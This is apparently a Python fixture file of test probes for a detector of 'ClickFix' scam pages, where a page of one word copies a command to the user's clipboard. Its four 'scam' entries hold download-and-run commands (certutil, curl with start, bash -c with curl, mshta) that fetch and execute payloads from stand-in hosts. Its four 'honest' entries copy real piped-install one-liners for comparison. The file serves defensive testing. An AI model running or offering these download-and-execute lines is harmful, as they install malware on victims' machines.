"""Targeted probes for clickfix46 (a page of almost no words copying an encoded PowerShell, or, under a word
that is no Copy button, a plain download run from another site's unnamed path): copy widgets of honest
install docs framed apart (one word that is not "Copy"), and lone-word pages copying other runs."""
from kit import P

F, H = 't-clickfix46', 'h-t-clickfix46'
# ---- honest: an install command's copy widget in its own frame, the word on it not "Copy"
P('en_h_tc_copied', 'honest', 'https://embed.docs-widgets.example/snippet/bun', H, 'en', 'snippet',
  '''Copied!''', clip='curl -fsSL https://bun.sh/install | bash')
P('en_h_tc_bash', 'honest', 'https://embed.docs-widgets.example/snippet/fnm', H, 'en', 'snippet',
  '''bash''', clip='curl -fsSL https://fnm.vercel.app/install | bash')
P('en_h_tc_check', 'honest', 'https://embed.docs-widgets.example/snippet/scoop', H, 'en', 'snippet',
  '''✓''', clip='irm https://get.scoop.sh | iex')
P('en_h_tc_terminal', 'honest', 'https://embed.docs-widgets.example/snippet/poetry', H, 'en', 'snippet',
  '''Terminal''', clip='curl -sSL https://install.python-poetry.org | python3 -')
# ---- scams: one word, other runs
P('en_s_tc_certutil', 'scam', 'https://gate-5550.site/', F, 'en', 'Verify',
  '''Continue''', clip='cmd /c certutil -urlcache -split -f https://cdn-5550.example-host.top/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe')
P('de_s_tc_weiter', 'scam', 'https://pruefung-5550.site/', F, 'de', 'Prüfung',
  '''Weiter''', clip='cmd /c "curl -s -o %TEMP%\\p.exe https://cdn-5550.example-host.top/p.exe & start %TEMP%\\p.exe"')
P('en_s_tc_macbash', 'scam', 'https://mac-5550.site/', F, 'en', 'macOS',
  '''Continue''', clip='bash -c "$(curl -fsSL https://cdn-5550.example-host.top/m)"')
P('fr_s_tc_mshta', 'scam', 'https://verif-5550.site/', F, 'fr', 'Vérification',
  '''Continuer''', clip='mshta https://cdn-5550.example-host.top/v')
